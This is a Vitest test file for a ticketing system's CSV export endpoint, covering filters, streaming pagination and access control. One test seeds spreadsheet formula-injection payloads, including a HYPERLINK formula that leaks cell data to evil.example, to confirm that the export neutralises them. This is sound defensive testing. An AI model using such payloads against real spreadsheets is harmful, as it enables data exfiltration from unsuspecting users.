import * as Auth from "@dotmac/core/auth";
import { withActor } from "@dotmac/core/platform/context";
import { createTransaction } from "@dotmac/core/platform/db";
import * as Team from "@dotmac/core/team";
import * as Ticket from "@dotmac/core/ticket";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { staffActor } from "../support/actors";
import { passwordSignIn, staffToken, testApp } from "../support/api";
import { setupTestDatabase, type TestDatabase } from "../support/db";
import { newSubscriber } from "../support/portals";

let t: TestDatabase;
let api: ReturnType<typeof testApp>;
let auth: Record<string, string>;
let techAuth: Record<string, string>;
let admin: ReturnType<typeof staffActor>;
const password = "correct horse battery staple";
const HEADER =
  "number,title,status,priority,type,channel,subscriber_number,primary_assignee_email,team,region,tags," +
  "created_at,due_at,resolved_at,closed_at";

beforeAll(async () => {
  t = await setupTestDatabase();
  api = testApp();
  auth = { authorization: `Bearer ${await staffToken()}` };
  const ops = await Auth.fromEmail("ops@example.com");
  admin = staffActor({ id: ops?.id as string, email: "ops@example.com", roles: ["admin"] });
  await Auth.createUser({ email: "tech@example.com", password, displayName: "Tech", roles: ["field_technician"] });
  techAuth = { authorization: `Bearer ${(await passwordSignIn({ email: "tech@example.com", password })).accessToken}` };
});
afterAll(() => t.close());

type CreateInput = Parameters<typeof Ticket.create>[0];
const open = async (input: Partial<CreateInput> & { title: string }) =>
  (await withActor(admin, () => Ticket.create({ priority: "medium", ...input }))).ticket;
const teams = new Map<string, string>();
/** The id of the team named `name`, created on first use (each test isolates its rows by team). */
async function team(name: string): Promise<string> {
  const known = teams.get(name);
  if (known) return known;
  const created = (await withActor(admin, () => Team.create({ name }))).id;
  teams.set(name, created);
  return created;
}
const download = (query: string, headers = auth) => api.request(`/api/v1/tickets/export.csv?${query}`, { headers });
/** The CSV's lines without the empty string after the final CRLF. */
const linesOf = async (res: Response) => (await res.text()).split("\r\n").slice(0, -1);

describe("GET /api/v1/tickets/export.csv", () => {
  it("downloads a header and one row per matching ticket, with names instead of ids", async () => {
    const types = await withActor(admin, () => Ticket.types({}));
    const bts = types.find((x) => x.name === "BTS Outage");
    const subscriberId = await newSubscriber("SUB-EXPORT-1");
    const full = await open({
      title: "BTS down in Lekki, again",
      priority: "high",
      ticketTypeId: bts?.id ?? null,
      channel: "phone",
      subscriberId,
      primaryAssigneeId: admin.properties.userId,
      teamId: await team("export-rows"),
      region: "Lagos",
      tags: ["outage", "lekki"],
      dueAt: new Date("2026-12-01T09:00:00.000Z"),
    });
    const bare = await open({ title: "Router reboot loop", teamId: await team("export-rows") });

    const res = await download(`teamId=${await team("export-rows")}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(await linesOf(res)).toEqual([
      HEADER,
      // Newest first, as the list orders them.
      `${bare.number},Router reboot loop,new,medium,,,,,export-rows,,,${bare.createdAt},,,`,
      `${full.number},"BTS down in Lekki, again",new,high,BTS Outage,phone,SUB-EXPORT-1,ops@example.com,` +
        `export-rows,Lagos,outage;lekki,${full.createdAt},2026-12-01T09:00:00.000Z,,`,
    ]);
  });

  it("applies the list's filters", async () => {
    const urgent = await open({
      title: "Fibre cut on the ring",
      priority: "urgent",
      teamId: await team("export-filter"),
    });
    await open({ title: "Slow speeds", priority: "low", teamId: await team("export-filter") });
    await open({ title: "Fibre cut elsewhere", priority: "urgent", teamId: await team("another-team") });

    const lines = await linesOf(await download(`teamId=${await team("export-filter")}&priority=urgent,high`));
    expect(lines).toHaveLength(2);
    expect(lines[1]?.startsWith(`${urgent.number},Fibre cut on the ring,`)).toBe(true);

    const searched = await linesOf(await download(`q=slow&teamId=${await team("export-filter")}`));
    expect(searched.map((l) => l.split(",")[1])).toEqual(["title", "Slow speeds"]);

    expect(await linesOf(await download(`teamId=${await team("export-filter")}&status=closed`))).toEqual([HEADER]);
    expect((await download("priority=whenever")).status).toBe(400);
  });

  it("writes titles a spreadsheet would run as formulas as text", async () => {
    const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1:A9)"];
    for (const title of titles) await open({ title, teamId: await team("export-formula") });

    const cells = (await linesOf(await download(`teamId=${await team("export-formula")}`)))
      .slice(1)
      .map((line) => line.slice(line.indexOf(",") + 1, line.indexOf(",new,")));
    expect(cells.sort()).toEqual(
      ['"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"', "'+1+1", "'-2+3", "'@SUM(A1:A9)"].sort(),
    );
  });

  it("streams every ticket exactly once across several keyset pages", async () => {
    // One transaction: every ticket shares one created_at, so the pages turn on the id alone.
    const count = 403;
    const bulkTeam = await team("export-bulk");
    const numbers = await withActor(admin, () =>
      createTransaction(async () => {
        const made: string[] = [];
        for (let i = 0; i < count; i++) {
          made.push((await Ticket.create({ title: `Bulk ${i}`, priority: "medium", teamId: bulkTeam })).ticket.number);
        }
        return made;
      }),
    );

    const res = await download(`teamId=${await team("export-bulk")}`);
    expect(res.status).toBe(200);
    const rows = (await linesOf(res)).slice(1);
    expect(rows).toHaveLength(count);
    const exported = rows.map((line) => line.split(",")[0]);
    expect(new Set(exported).size).toBe(count);
    expect([...exported].sort()).toEqual([...numbers].sort());

    // A slow reader (a server adapter, a client on a poor link) pulls later pages outside the actor's context.
    const reader = (await withActor(admin, () => Ticket.exportCsv({ teamId: bulkTeam }))).getReader();
    let chunks = 0;
    for (let next = await reader.read(); !next.done; next = await reader.read()) {
      chunks++;
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
    expect(chunks).toBe(count + 1);
  });
});

describe("ticket export security", () => {
  it("needs credentials", async () => {
    expect((await api.request("/api/v1/tickets/export.csv")).status).toBe(401);
  });

  it("refuses staff without support:ticket:read before any CSV byte", async () => {
    const res = await download("", techAuth);
    expect(res.status).toBe(403);
    expect(res.headers.get("content-type")).toBe("application/problem+json");
  });
});
